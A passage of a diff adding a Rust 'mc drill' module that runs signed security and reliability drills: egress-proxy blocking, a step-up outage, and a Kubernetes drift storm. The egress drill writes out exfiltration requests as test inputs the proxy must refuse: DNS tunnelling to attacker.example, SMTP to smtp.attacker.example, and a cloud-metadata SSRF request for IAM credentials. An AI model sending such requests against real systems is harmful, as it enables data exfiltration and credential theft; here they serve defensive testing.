@@ -1,0 +1,1067 @@
+//! `mc drill`: the GameDay drills of spec §8 and the rollback drill of MC-SRE-1161,
+//! run on the embedded defaults (real sockets on 127.0.0.1 for the egress proxy),
+//! each leaving signed evidence for auditors (spec §13 "Evidence Links"):
+//!
+//! ```text
+//! OUT/<drill>/report.json       what was tried, every check and whether it passed
+//! OUT/<drill>/report.dsse.json  the same report in a DSSE envelope (ed25519)
+//! OUT/<drill>/audit.jsonl       the audit events the drill produced, as stored
+//! ```
+//!
+//! `mc drill verify OUT --key KEY.pub` checks every envelope against its report.
+
+use std::collections::BTreeMap;
+use std::io::{Read as _, Write as _};
+use std::net::{IpAddr, SocketAddr};
+use std::path::{Path, PathBuf};
+use std::process::ExitCode;
+use std::sync::Arc;
+use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
+
+use anyhow::{Context, bail};
+use async_trait::async_trait;
+use mc_actions::{ActionError, ActionRequest, ActionService, HmacStepUp, RollbackPolicy};
+use mc_core::{
+    ActionCommit, ActionKind, Actor, ActorId, AuditEvent, AuditLog, Clock, Digest, Execution,
+    ExecutionId, ExecutionState, ExecutionStore, Flag, FlagStore, IdempotencyKey, LiveObject,
+    ManualClock, MemoryBlobStore, MemoryChangeProposer, MemoryDriftSource, MemoryFlagStore,
+    MemoryPager, MemoryStore, StepUpBinding, StepUpError, StepUpGrant, StepUpVerifier, SystemClock,
+    TaskId, TenantId, Transition, verify_chain,
+};
+use mc_egress::{AddressPolicy, TaskEgress, TaskRef};
+use mc_egress_proxy::{EgressProxy, ProxyConfig, StaticResolver, TaskRegistry};
+use mc_evidence::{Envelope, EvidenceKey};
+use serde::{Deserialize, Serialize};
+use time::OffsetDateTime;
+use time::format_description::well_known::Rfc3339;
+
+/// The DSSE payload type of a drill report.
+pub const PAYLOAD_TYPE: &str = "application/vnd.mc.drill-report+json";
+
+/// Arguments of `mc drill`.
+#[derive(Debug, clap::Args)]
+pub struct DrillArgs {
+    #[command(subcommand)]
+    command: DrillCommand,
+}
+
+#[derive(Debug, clap::Subcommand)]
+enum DrillCommand {
+    /// Run a drill (or all) and write its evidence under --out.
+    Run {
+        /// Which drill.
+        #[arg(value_enum)]
+        drill: Which,
+        /// Evidence directory (one sub-directory per drill).
+        #[arg(long)]
+        out: PathBuf,
+        /// ed25519 key (PKCS#8 PEM, from `mc evidence keygen`) that signs the
+        /// reports. Default: a fresh key, its public half written to OUT/drill-key.pub.
+        #[arg(long)]
+        key: Option<PathBuf>,
+    },
+    /// Verify every drill report under a directory: signature and content (exit 0
+    /// all valid and passed, 1 otherwise).
+    Verify {
+        /// The directory `mc drill run` wrote.
+        dir: PathBuf,
+        /// The public key (PEM).
+        #[arg(long)]
+        key: PathBuf,
+    },
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
+enum Which {
+    /// Spec §8 "Egress exfil attempt: blocked + alert + audit" (MC-RUN-1142).
+    Egress,
+    /// Spec §8 "Step-up outage: graceful degradation (read-only)".
+    StepupOutage,
+    /// Spec §8 "Drift storm: inject misconfig; bot proposes PRs; human approves".
+    DriftStorm,
+    /// MC-SRE-1161 "Simulate bad retry; auto-rollback within 2m; evidence recorded".
+    Rollback,
+    /// Every drill above.
+    All,
+}
+
+/// One check of a drill.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct Check {
+    /// What was checked.
+    pub name: String,
+    /// Whether it held.
+    pub passed: bool,
+    /// What was seen.
+    pub detail: String,
+}
+
+/// What a drill reports.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase")]
+pub struct Report {
+    /// The drill's name.
+    pub drill: String,
+    /// What the spec asks of it.
+    pub spec: String,
+    /// When it started (RFC 3339).
+    pub started_at: String,
+    /// When it finished (RFC 3339).
+    pub finished_at: String,
+    /// Whether every check passed.
+    pub passed: bool,
+    /// The checks, in order.
+    pub checks: Vec<Check>,
+    /// Audit events the drill produced (in `audit.jsonl`).
+    pub audit_events: usize,
+    /// Other evidence files beside the report, by name, with their SHA-256 (so the
+    /// signature covers them).
+    pub artifacts: BTreeMap<String, String>,
+}
+
+/// What a drill leaves besides its checks.
+#[derive(Default)]
+struct Evidence {
+    audit: Vec<AuditEvent>,
+    files: Vec<(&'static str, Vec<u8>)>,
+}
+
+/// Checks collected while a drill runs.
+#[derive(Default)]
+struct Checks(Vec<Check>);
+
+impl Checks {
+    fn check(&mut self, name: &str, passed: bool, detail: impl Into<String>) {
+        let detail = detail.into();
+        println!(
+            "   {} {name}: {detail}",
+            if passed { "ok  " } else { "FAIL" }
+        );
+        self.0.push(Check {
+            name: name.to_string(),
+            passed,
+            detail,
+        });
+    }
+}
+
+/// Runs `mc drill`.
+pub fn run(args: DrillArgs) -> ExitCode {
+    let result = match args.command {
+        DrillCommand::Run { drill, out, key } => run_drills(drill, &out, key.as_deref()),
+        DrillCommand::Verify { dir, key } => verify(&dir, &key),
+    };
+    result.unwrap_or_else(|e| {
+        eprintln!("mc drill: {e:#}");
+        ExitCode::from(2)
+    })
+}
+
+fn now_text() -> String {
+    OffsetDateTime::now_utc()
+        .format(&Rfc3339)
+        .unwrap_or_default()
+}
+
+fn run_drills(which: Which, out: &Path, key: Option<&Path>) -> anyhow::Result<ExitCode> {
+    let key = match key {
+        Some(path) => EvidenceKey::from_pkcs8_pem(
+            &std::fs::read_to_string(path)
+                .with_context(|| format!("reading {}", path.display()))?,
+        )
+        .with_context(|| format!("{} is not an ed25519 PKCS#8 key", path.display()))?,
+        None => {
+            let key = EvidenceKey::generate()?;
+            std::fs::create_dir_all(out).with_context(|| format!("creating {}", out.display()))?;
+            let pub_path = out.join("drill-key.pub");
+            std::fs::write(
+                &pub_path,
+                mc_evidence::dsse::public_key_to_pem(&key.verifying_key())?,
+            )
+            .with_context(|| format!("writing {}", pub_path.display()))?;
+            println!(
+                "signing with a fresh key; public key in {}",
+                pub_path.display()
+            );
+            key
+        }
+    };
+    let drills: Vec<Which> = match which {
+        Which::All => vec![
+            Which::Egress,
+            Which::StepupOutage,
+            Which::DriftStorm,
+            Which::Rollback,
+        ],
+        one => vec![one],
+    };
+    let rt = tokio::runtime::Runtime::new().context("starting the runtime")?;
+    let mut all_passed = true;
+    for d in drills {
+        let (name, spec) = describe(d);
+        println!("\n── drill {name}: {spec}");
+        let started_at = now_text();
+        let mut checks = Checks::default();
+        let evidence = rt.block_on(async {
+            match d {
+                Which::Egress => egress(&mut checks).await,
+                Which::StepupOutage => stepup_outage(&mut checks).await,
+                Which::DriftStorm => drift_storm(&mut checks).await,
+                Which::Rollback => rollback(&mut checks).await,
+                Which::All => unreachable!("expanded above"),
+            }
+        })?;
+        let report = Report {
+            drill: name.to_string(),
+            spec: spec.to_string(),
+            started_at,
+            finished_at: now_text(),
+            passed: !checks.0.is_empty() && checks.0.iter().all(|c| c.passed),
+            checks: checks.0,
+            audit_events: evidence.audit.len(),
+            artifacts: evidence
+                .files
+                .iter()
+                .map(|(n, bytes)| (n.to_string(), Digest::of(bytes).to_string()))
+                .collect(),
+        };
+        all_passed &= report.passed;
+        write_evidence(&out.join(name), &report, &evidence, &key)?;
+        println!(
+            "   => {} ({} checks, {} audit events) -> {}",
+            if report.passed { "PASSED" } else { "FAILED" },
+            report.checks.len(),
+            evidence.audit.len(),
+            out.join(name).display()
+        );
+    }
+    Ok(if all_passed {
+        ExitCode::SUCCESS
+    } else {
+        ExitCode::from(1)
+    })
+}
+
+fn describe(d: Which) -> (&'static str, &'static str) {
+    match d {
+        Which::Egress => (
+            "egress",
+            "egress exfil attempt: blocked + alert + audit (spec §8, MC-RUN-1142: 0 escapes)",
+        ),
+        Which::StepupOutage => (
+            "stepup-outage",
+            "step-up outage: graceful degradation to read-only (spec §8)",
+        ),
+        Which::DriftStorm => (
+            "drift-storm",
+            "drift storm: inject misconfig; pages; bot proposes PRs; human approves; recovery (spec §8)",
+        ),
+        Which::Rollback => (
+            "rollback",
+            "bad retry auto-rolled back within 2 minutes, evidence recorded (MC-SRE-1161)",
+        ),
+        Which::All => ("all", ""),
+    }
+}
+
+/// Writes report.json, report.dsse.json, audit.jsonl and the other evidence files
+/// into `dir` (created).
+fn write_evidence(
+    dir: &Path,
+    report: &Report,
+    evidence: &Evidence,
+    key: &EvidenceKey,
+) -> anyhow::Result<()> {
+    std::fs::create_dir_all(dir).with_context(|| format!("creating {}", dir.display()))?;
+    let payload = serde_json::to_vec_pretty(report)?;
+    let envelope = Envelope::sign(PAYLOAD_TYPE, &payload, key);
+    let mut lines = Vec::new();
+    for e in &evidence.audit {
+        serde_json::to_writer(&mut lines, e)?;
+        lines.push(b'\n');
+    }
+    let mut files = vec![
+        ("report.json", payload),
+        ("report.dsse.json", envelope.to_json_pretty().into_bytes()),
+        ("audit.jsonl", lines),
+    ];
+    files.extend(evidence.files.iter().cloned());
+    for (name, bytes) in files {
+        let path = dir.join(name);
+        let mut f =
+            std::fs::File::create(&path).with_context(|| format!("writing {}", path.display()))?;
+        f.write_all(&bytes)
+            .with_context(|| format!("writing {}", path.display()))?;
+    }
+    Ok(())
+}
+
+fn verify(dir: &Path, key: &Path) -> anyhow::Result<ExitCode> {
+    let pem = std::fs::read_to_string(key).with_context(|| format!("reading {}", key.display()))?;
+    let key = mc_evidence::dsse::public_key_from_pem(&pem)
+        .with_context(|| format!("{} is not an ed25519 public key", key.display()))?;
+    let mut entries: Vec<PathBuf> = std::fs::read_dir(dir)
+        .with_context(|| format!("reading {}", dir.display()))?
+        .filter_map(|e| e.ok().map(|e| e.path()))
+        .filter(|p| p.join("report.dsse.json").is_file())
+        .collect();
+    entries.sort();
+    if entries.is_empty() {
+        bail!("no drill reports under {}", dir.display());
+    }
+    let mut ok = true;
+    for d in entries {
+        let name = d
+            .file_name()
+            .unwrap_or_default()
+            .to_string_lossy()
+            .into_owned();
+        match verify_one(&d, &key) {
+            Ok(report) if report.passed => println!("ok    {name}: signature valid, drill passed"),
+            Ok(_) => {
+                ok = false;
+                println!("FAIL  {name}: signature valid, but the drill failed");
+            }
+            Err(e) => {
+                ok = false;
+                println!("FAIL  {name}: {e:#}");
+            }
+        }
+    }
+    Ok(if ok {
+        ExitCode::SUCCESS
+    } else {
+        ExitCode::from(1)
+    })
+}
+
+fn verify_one(dir: &Path, key: &ed25519_dalek::VerifyingKey) -> anyhow::Result<Report> {
+    let mut env = Vec::new();
+    std::fs::File::open(dir.join("report.dsse.json"))?.read_to_end(&mut env)?;
+    let env = Envelope::from_json(&env)?;
+    if env.payload_type != PAYLOAD_TYPE {
+        bail!("payload type {:?} is not {PAYLOAD_TYPE}", env.payload_type);
+    }
+    let payload = env.verify(key)?;
+    let on_disk = std::fs::read(dir.join("report.json"))?;
+    if on_disk != payload {
+        bail!("report.json differs from the signed report");
+    }
+    let report: Report = serde_json::from_slice(&payload)?;
+    // The audit excerpt must hold as many events as the signed report says, and
+    // chain (each event's prev is the previous one's hash).
+    let text = std::fs::read_to_string(dir.join("audit.jsonl"))?;
+    let events: Vec<AuditEvent> = text
+        .lines()
+        .map(serde_json::from_str)
+        .collect::<Result<_, _>>()
+        .context("audit.jsonl")?;
+    if events.len() != report.audit_events {
+        bail!(
+            "audit.jsonl holds {} events, the signed report {}",
+            events.len(),
+            report.audit_events
+        );
+    }
+    let mut by_tenant: BTreeMap<String, Vec<AuditEvent>> = BTreeMap::new();
+    for e in events {
+        by_tenant.entry(e.tenant().to_string()).or_default().push(e);
+    }
+    for (tenant, chain) in by_tenant {
+        verify_chain(&chain).map_err(|e| anyhow::anyhow!("audit chain of {tenant}: {e}"))?;
+    }
+    for (name, want) in &report.artifacts {
+        if name.contains('/') || name.starts_with('.') {
+            bail!("artifact name {name:?} leaves the drill's directory");
+        }
+        let bytes = std::fs::read(dir.join(name)).with_context(|| format!("artifact {name}"))?;
+        let got = Digest::of(&bytes).to_string();
+        if &got != want {
+            bail!("artifact {name}: SHA-256 {got}, the signed report says {want}");
+        }
+    }
+    Ok(report)
+}
+
+// ---------------------------------------------------------------------------
+// Egress exfiltration (spec §8, MC-RUN-1142)
+
+/// A TCP server on 127.0.0.1 that counts connections and answers `PING` lines.
+struct Listener {
+    addr: SocketAddr,
+    accepted: Arc<AtomicUsize>,
+}
+
+impl Listener {
+    async fn start() -> anyhow::Result<Self> {
+        use tokio::io::{AsyncReadExt, AsyncWriteExt};
+        let l = tokio::net::TcpListener::bind("127.0.0.1:0").await?;
+        let addr = l.local_addr()?;
+        let accepted = Arc::new(AtomicUsize::new(0));
+        let count = accepted.clone();
+        tokio::spawn(async move {
+            while let Ok((mut s, _)) = l.accept().await {
+                count.fetch_add(1, Ordering::SeqCst);
+                tokio::spawn(async move {
+                    let mut buf = [0u8; 1024];
+                    while let Ok(n) = s.read(&mut buf).await {
+                        if n == 0 || s.write_all(b"PONG\n").await.is_err() {
+                            break;
+                        }
+                    }
+                });
+            }
+        });
+        Ok(Listener { addr, accepted })
+    }
+}
+
+/// Sends a request head to the proxy; returns the connection and the status code.
+async fn through_proxy(
+    proxy: SocketAddr,
+    head: &str,
+) -> anyhow::Result<(tokio::net::TcpStream, u16)> {
+    use tokio::io::{AsyncReadExt, AsyncWriteExt};
+    let mut s = tokio::net::TcpStream::connect(proxy).await?;
+    s.write_all(head.as_bytes()).await?;
+    let mut got = Vec::new();
+    let mut buf = [0u8; 1024];
+    while !got.windows(4).any(|w| w == b"\r\n\r\n") {
+        let n = tokio::time::timeout(std::time::Duration::from_secs(10), s.read(&mut buf))
+            .await
+            .context("the proxy did not answer")??;
+        if n == 0 {
+            break;
+        }
+        got.extend_from_slice(&buf[..n]);
+    }
+    let text = String::from_utf8_lossy(&got);
+    let status = text
+        .split(' ')
+        .nth(1)
+        .and_then(|s| s.parse().ok())
+        .unwrap_or(0);
+    Ok((s, status))
+}
+
+/// One round trip through an open tunnel; false when the tunnel is closed.
+async fn ping(s: &mut tokio::net::TcpStream) -> bool {
+    use tokio::io::{AsyncReadExt, AsyncWriteExt};
+    if s.write_all(b"PING\n").await.is_err() {
+        return false;
+    }
+    let mut buf = [0u8; 5];
+    matches!(
+        tokio::time::timeout(std::time::Duration::from_secs(10), s.read_exact(&mut buf)).await,
+        Ok(Ok(_)) if &buf == b"PONG\n"
+    )
+}
+
+async fn egress(c: &mut Checks) -> anyhow::Result<Evidence> {
+    use base64::Engine as _;
+    let api = Listener::start().await?;
+    let attacker = Listener::start().await?;
+    let local: IpAddr = "127.0.0.1".parse()?;
+    // Data smuggled out in a DNS label (base32 of "card 4111 1111 1111 1111").
+    let exfil_name = "mnqxezbagqytcmjageytcmjageytcmjageytcmi.attacker.example".to_string();
+    let resolver = Arc::new(
+        StaticResolver::new()
+            .with("api.example.com", &[local])
+            .with("attacker.example", &[local])
+            .with(&exfil_name, &[local])
+            .with("smtp.attacker.example", &[local]),
+    );
+    let registry = Arc::new(TaskRegistry::new());
+    let store = Arc::new(MemoryStore::new());
+    let flags = Arc::new(MemoryFlagStore::new());
+    let tenant = TenantId::new("acme")?;
+    let execution = ExecutionId::new("exec_drill")?;
+    flags.set(&tenant, Flag::EgressPolicyEnforce, true).await?;
+    let clock: Arc<dyn Clock> = Arc::new(SystemClock);
+    let proxy = EgressProxy::new(
+        registry.clone(),
+        flags,
+        store.clone(),
+        clock.clone(),
+        resolver.clone(),
+    )
+    .with_config(ProxyConfig {
+        // The drill's servers live on loopback: open exactly 127.0.0.1; every other
+        // special-purpose range (metadata, private networks) stays denied.
+        addresses: AddressPolicy::new().allow_range("127.0.0.1/32".parse()?),
+        ..ProxyConfig::default()
+    })
+    .bind("127.0.0.1:0".parse()?)
+    .await?;
+    let at = proxy.local_addr();
+    let token = registry.register(
+        TaskRef {
+            tenant: tenant.clone(),
+            execution: execution.clone(),
+            task: TaskId::new("fetch")?,
+        },
+        TaskEgress::from_rules([("api.example.com", vec![api.addr.port()])])?,
+    )?;
+    let auth = format!(
+        "Proxy-Authorization: Basic {}\r\n",
+        base64::engine::general_purpose::STANDARD.encode(format!("task:{}", token.expose()))
+    );
+
+    // Control: the task's own API works.
+    let target = format!("api.example.com:{}", api.addr.port());
+    let (mut tunnel, status) =
+        through_proxy(at, &format!("CONNECT {target} HTTP/1.1\r\n{auth}\r\n")).await?;
+    let flows = status == 200 && ping(&mut tunnel).await;
+    c.check(
+        "allowed traffic flows",
+        flows,
+        format!("CONNECT {target} -> {status}, round trip through the tunnel: {flows}"),
+    );
+
+    let attempts: [(&str, String, u16); 6] = [
+        (
+            "DNS exfiltration (data in a subdomain)",
+            format!("CONNECT {exfil_name}:443 HTTP/1.1\r\n{auth}\r\n"),
+            403,
+        ),
+        (
+            "SMTP exfiltration",
+            format!("CONNECT smtp.attacker.example:25 HTTP/1.1\r\n{auth}\r\n"),
+            403,
+        ),
+        (
+            "IP literal to an attacker's server",
+            format!(
+                "CONNECT 127.0.0.1:{} HTTP/1.1\r\n{auth}\r\n",
+                attacker.addr.port()
+            ),
+            403,
+        ),
+        (
+            "cloud metadata (SSRF)",
+            format!(
+                "GET http://169.254.169.254/latest/meta-data/iam/ HTTP/1.1\r\nHost: 169.254.169.254\r\n{auth}\r\n"
+            ),
+            403,
+        ),
+        (
+            "allowed host on another port",
+            format!(
+                "CONNECT api.example.com:{} HTTP/1.1\r\n{auth}\r\n",
+                attacker.addr.port()
+            ),
+            403,
+        ),
+        (
+            "no task credentials",
+            format!("CONNECT {target} HTTP/1.1\r\n\r\n"),
+            407,
+        ),
+    ];
+    for (name, head, want) in &attempts {
+        let (_, got) = through_proxy(at, head).await?;
+        c.check(
+            name,
+            got == *want,
+            format!("proxy answered {got}, expected {want}"),
+        );
+    }
+    let asked = resolver.asked();
+    c.check(
+        "the exfiltration name was never resolved",
+        !asked.contains(&exfil_name),
+        format!("names the proxy resolved: {asked:?}"),
+    );
+
+    // The task ends: its credential and its open tunnel stop at once.
+    registry.revoke(&token);
+    let closed = !ping(&mut tunnel).await;
+    let (_, after) = through_proxy(at, &format!("CONNECT {target} HTTP/1.1\r\n{auth}\r\n")).await?;
+    c.check(
+        "revoking the task closes its tunnel and its credential",
+        closed && after == 407,
+        format!("open tunnel closed: {closed}; new CONNECT -> {after}"),
+    );
+    c.check(
+        "0 escapes",
+        attacker.accepted.load(Ordering::SeqCst) == 0,
+        format!(
+            "connections that reached the attacker's server: {}",
+            attacker.accepted.load(Ordering::SeqCst)
+        ),
+    );
+
+    // Audit and the disclosure note (spec §7).
+    let events = store.read(&tenant, 0, 1000).await?;
+    let blocked = events
+        .iter()
+        .filter(|e| e.kind == mc_egress::EGRESS_BLOCKED)
+        .count();
+    c.check(
+        "every refused call is audited",
+        blocked == 5,
+        format!("{blocked} mc.egress.blocked events for 5 refusals of the task (the call without credentials has no task to audit under)"),
+    );
+    c.check(
+        "the audit chain verifies",
+        verify_chain(&events).is_ok(),
+        format!("{} events", events.len()),
+    );
+    let blobs = MemoryBlobStore::new(clock.clone());
+    let note =
+        mc_egress::write_disclosure_note(store.as_ref(), &blobs, &tenant, &execution, clock.now())
+            .await?;
+    c.check(
+        "a disclosure note is written beside the evidence",
+        note.as_ref().is_some_and(|(_, n)| n.refused == 5),
+        match &note {
+            Some((key, n)) => format!("{key}: {} refused", n.refused),
+            None => "no note".into(),
+        },
+    );
+    c.check(
+        "the block spike alert counts these",
+        blocked > 0,
+        "mc_egress_block_total{mode=\"enforce\"} counted each refusal; McEgressBlocksSpike is unit-tested with promtool (.ci/alerts-gate)",
+    );
+    proxy.shutdown().await;
+    let mut files = Vec::new();
+    if let Some((_, n)) = &note {
+        files.push(("egress-violations.json", serde_json::to_vec_pretty(n)?));
+    }
+    Ok(Evidence {
+        audit: events,
+        files,
+    })
+}
+
+// ---------------------------------------------------------------------------
+// Step-up outage (spec §8)
+
+/// A verifier that can be taken down like an unreachable authenticator service.
+struct Switchable {
+    inner: Arc<HmacStepUp>,
+    down: AtomicBool,
+}
+
+#[async_trait]
+impl StepUpVerifier for Switchable {
+    async fn verify_and_consume(
+        &self,
+        grant: &StepUpGrant,
+        binding: &StepUpBinding,
+        now: OffsetDateTime,
+    ) -> Result<(), StepUpError> {
+        if self.down.load(Ordering::SeqCst) {
+            return Err(StepUpError::Unavailable(
+                "authenticator service unreachable (drill)".into(),
+            ));
+        }
+        self.inner.verify_and_consume(grant, binding, now).await
+    }
+}
+
+fn random_key() -> anyhow::Result<Vec<u8>> {
+    let mut key = vec![0u8; 32];
+    getrandom::fill(&mut key).map_err(|e| anyhow::anyhow!("no randomness: {e}"))?;
+    Ok(key)
+}
+
+struct ActionRig {
+    store: MemoryStore,
+    flags: MemoryFlagStore,
+    clock: ManualClock,
+    hmac: Arc<HmacStepUp>,
+    tenant: TenantId,
+    alice: Actor,
+}
+
+impl ActionRig {
+    async fn new() -> anyhow::Result<Self> {
+        let rig = ActionRig {
+            store: MemoryStore::new(),
+            flags: MemoryFlagStore::new(),
+            clock: ManualClock::new(OffsetDateTime::now_utc()),
+            hmac: Arc::new(HmacStepUp::new(random_key()?)),
+            tenant: TenantId::new("acme")?,
+            alice: Actor::new(
+                ActorId::new("alice@company")?,
+                TenantId::new("acme")?,
+                ["operator"],
+            ),
+        };
+        rig.flags
+            .set(&rig.tenant, Flag::ConsoleActionsEnabled, true)
+            .await?;
+        Ok(rig)
+    }
+
+    async fn failed_execution(&self, id: &str) -> anyhow::Result<ExecutionId> {
+        let id = ExecutionId::new(id)?;
+        let mut unit = ActionCommit::new(self.tenant.clone(), self.clock.now());
+        unit.create = Some(Execution::new(
+            self.tenant.clone(),
+            id.clone(),
+            Digest::of(b"workflow: nightly-settlement"),
+            Digest::of(b"{}"),
+            self.clock.now(),
+        ));
+        self.store.commit(unit).await?;
+        self.host(&id, ExecutionState::Running).await?;
+        self.host(&id, ExecutionState::Failed).await?;
+        Ok(id)
+    }
+
+    /// The runtime moves an execution (not a console action: no audit event).
+    async fn host(&self, id: &ExecutionId, to: ExecutionState) -> anyhow::Result<()> {
+        let cur = self.store.get(&self.tenant, id).await?;
+        let mut unit = ActionCommit::new(self.tenant.clone(), self.clock.now());
+        unit.transition = Some(Transition {
+            execution_id: id.clone(),
+            expected_version: cur.version,
+            to,
+            next_attempt: false,
+        });
+        self.store.commit(unit).await?;
+        Ok(())
+    }
+
+    fn retry(&self, id: &ExecutionId, key: &str) -> anyhow::Result<ActionRequest> {
+        let binding = StepUpBinding {
+            tenant: self.tenant.clone(),
+            actor: self.alice.sub.clone(),
+            action: ActionKind::Retry,
+            execution_id: id.clone(),
+        };
+        Ok(ActionRequest {
+            tenant: self.tenant.clone(),
+            execution_id: id.clone(),
+            kind: ActionKind::Retry,
+            actor: self.alice.clone(),
+            reason: "transient_error".into(),
+            idempotency_key: IdempotencyKey::new(key)?,
+            step_up: Some(self.hmac.issue(&binding, self.clock.now())),
+        })
+    }
+}
+
+async fn stepup_outage(c: &mut Checks) -> anyhow::Result<Evidence> {
+    let rig = ActionRig::new().await?;
+    let exec = rig.failed_execution("exec_outage").await?;
+    let verifier = Arc::new(Switchable {
+        inner: rig.hmac.clone(),
+        down: AtomicBool::new(true),
+    });
+    let service = ActionService::new(
+        Arc::new(rig.store.clone()),
+        Arc::new(rig.flags.clone()),
+        verifier.clone(),
+        Arc::new(rig.clock.clone()),
+    );
+    let before = rig.store.get(&rig.tenant, &exec).await?;
+    let refused = service.perform(rig.retry(&exec, "outage-1")?).await;
+    let detail = match &refused {
+        Err(e) => format!("{}: {e}", e.code()),
+        Ok(o) => format!("accepted: {o:?}"),
+    };
+    c.check(
+        "writes are refused while step-up is down",
+        matches!(&refused, Err(ActionError::StepUpUnavailable(_))),
+        detail.clone(),
+    );
+    c.check(
+        "the refusal says the console is read-only",
+        detail.contains("read-only"),
+        "HTTP maps it to 503 step_up_unavailable (docs/http-api.md)",
+    );
+    let after = rig.store.get(&rig.tenant, &exec).await?;
+    let view = service
+        .allowed_actions(&rig.alice, &rig.tenant, &exec)
+        .await
+        .map(|v| v.len());
+    c.check(
+        "reads keep working and nothing changed",
+        after == before && view.is_ok(),
+        format!(
+            "execution {} still {} at attempt {}; allowed-actions view: {view:?}",
+            after.id, after.state, after.attempt
+        ),
+    );
+    let events = rig.store.read(&rig.tenant, 0, 100).await?;
+    c.check(
+        "no audit event for a refused write",
+        events.is_empty(),
+        format!("{} events", events.len()),
+    );
+    // The authenticator returns: a fresh, step-up-verified retry goes through.
+    verifier.down.store(false, Ordering::SeqCst);
+    let resumed = service.perform(rig.retry(&exec, "outage-2")?).await;
+    c.check(
+        "writes resume when step-up returns",
+        matches!(&resumed, Ok(o) if o.attempt == before.attempt + 1),
+        match &resumed {
+            Ok(o) => format!("retry accepted, attempt {}", o.attempt),
+            Err(e) => format!("{}: {e}", e.code()),
+        },
+    );
+    let events = rig.store.read(&rig.tenant, 0, 100).await?;
+    c.check(
+        "one audit event for the one accepted write",
+        events.len() == 1 && events[0].kind == mc_core::audit::EXEC_ACTION,
+        format!("{} events", events.len()),
+    );
+    Ok(Evidence {
+        audit: events,
+        files: Vec::new(),
+    })
+}
+
+// ---------------------------------------------------------------------------
+// Drift storm (spec §8)
+
+const DRIFT_FILE: &str = "deploy/prod.yaml";
+const DRIFT_MANIFESTS: &str = "\
+apiVersion: apps/v1
+kind: Deployment
+metadata:
+  name: web
+  namespace: prod
+spec:
+  replicas: 3
+  template:
+    spec:
+      containers:
+        - name: app
+          image: registry.example.com/web:1.4.2
+---
+apiVersion: networking.k8s.io/v1
+kind: NetworkPolicy
+metadata:
+  name: web-egress
+  namespace: prod
+spec:
+  podSelector: {}
+  policyTypes: [Egress]
+";
+
+async fn drift_storm(c: &mut Checks) -> anyhow::Result<Evidence> {
+    use mc_drift::{DetectorParts, DiffRules, DriftDetector, Severity, from_kube_yaml};
+    let desired = from_kube_yaml(DRIFT_FILE, DRIFT_MANIFESTS)?;
+    let files = BTreeMap::from([(DRIFT_FILE.to_string(), DRIFT_MANIFESTS.to_string())]);
+    let source = Arc::new(MemoryDriftSource::new("kube:prod"));
+    let pager = Arc::new(MemoryPager::new());
+    let proposer = Arc::new(MemoryChangeProposer::new());
+    let flags = Arc::new(MemoryFlagStore::new());
+    let tenant = TenantId::new("acme")?;
+    flags.set(&tenant, Flag::DriftPrBotEnabled, true).await?;
+    let detector = DriftDetector::new(
+        tenant.clone(),
+        "prod",
+        DetectorParts {
+            source: source.clone(),
+            pager: pager.clone(),
+            proposer: proposer.clone(),
+            flags,
+            clock: Arc::new(SystemClock),
+        },
+        DiffRules::default(),
+    );
+    let live: Vec<LiveObject> = desired.iter().map(|d| d.object.clone()).collect();
+    source.set(live.clone());
+    let started = std::time::Instant::now();
+    let clean = detector.scan(&desired, &files).await?;
+    c.check(
+        "in sync before the storm",
+        clean.findings.is_empty(),
+        format!(
+            "{} findings over {} objects",
+            clean.findings.len(),
+            clean.compared
+        ),
+    );
+
+    // The storm: replicas scaled by hand (warning) and the egress policy opened
+    // (critical).
+    let mut storm = live.clone();
+    storm[0].body["spec"]["replicas"] = serde_json::json!(5);
+    storm[1].body["spec"]["policyTypes"] = serde_json::json!(["Ingress"]);
+    source.set(storm);
+    let r = detector.scan(&desired, &files).await?;
+    let critical = r
+        .findings
+        .iter()
+        .filter(|f| f.severity == Severity::Critical)
+        .count();
+    c.check(
+        "the detector finds every injected drift",
+        r.findings.len() == 2,
+        format!("{} findings ({critical} critical)", r.findings.len()),
+    );
+    c.check(
+        "critical drift pages",
+        r.paged == critical && critical == 1 && pager.pages().len() == 1,
+        format!("{} page(s)", pager.pages().len()),
+    );
+    c.check(
+        "the bot proposes one change per drift, for human approval",
+        r.proposed.len() == 2
+            && proposer
+                .proposals()
+                .iter()
+                .all(|(p, _)| p.body.contains("Requires human approval")),
+        format!(
+            "{} proposals: {:?}",
+            r.proposed.len(),
+            proposer
+                .proposals()
+                .iter()
+                .map(|(p, _)| (p.title.clone(), p.labels.clone()))
+                .collect::<Vec<_>>()
+        ),
+    );
+    let again = detector.scan(&desired, &files).await?;
+    c.check(
+        "a rescan opens nothing twice and pages nothing twice",
+        again.proposed.is_empty() && pager.pages().len() == 1,
+        format!(
+            "{} already proposed, {} pages",
+            again.already_proposed,
+            pager.pages().len()
+        ),
+    );
+    // A human approves the replicas change (merges its patch); operators revert
+    // the network policy by hand. Recovery: the next scan is clean.
+    let proposals = proposer.proposals();
+    let Some((web, _)) = proposals
+        .iter()
+        .find(|(p, _)| p.title.contains("Deployment/prod/web"))
+    else {
+        bail!("no proposal for the deployment");
+    };
+    let (path, text) = web.files.first().context("the proposal changes no file")?;
+    let merged = from_kube_yaml(path, text)?;
+    let merged_files = BTreeMap::from([(path.clone(), text.clone())]);
+    proposer.close(&web.fingerprint);
+    let mut recovered: Vec<LiveObject> = merged.iter().map(|d| d.object.clone()).collect();
+    recovered[1] = live[1].clone();
+    source.set(recovered);
+    let r = detector.scan(&merged, &merged_files).await?;
+    let took = started.elapsed();
+    c.check(
+        "after approval and revert, drift is gone",
+        r.findings.is_empty(),
+        format!("{} findings", r.findings.len()),
+    );
+    c.check(
+        "recovery within 10 minutes",
+        took < std::time::Duration::from_secs(600),
+        format!(
+            "storm to clean scan: {took:?} (scans on demand here; the daemon scans every 2 minutes)"
+        ),
+    );
+    // The proposals (title, labels, body with the diff, files) and the pages: the
+    // "drift PR links" of the definition of done.
+    let proposals: Vec<serde_json::Value> = proposals
+        .iter()
+        .map(|(p, r)| {
+            serde_json::json!({
+                "title": p.title, "labels": p.labels, "fingerprint": p.fingerprint,
+                "body": p.body, "files": p.files, "ref": format!("{r:?}"),
+            })
+        })
+        .collect();
+    let pages: Vec<String> = pager.pages().iter().map(|a| format!("{a:?}")).collect();
+    Ok(Evidence {
+        audit: Vec::new(),
+        files: vec![
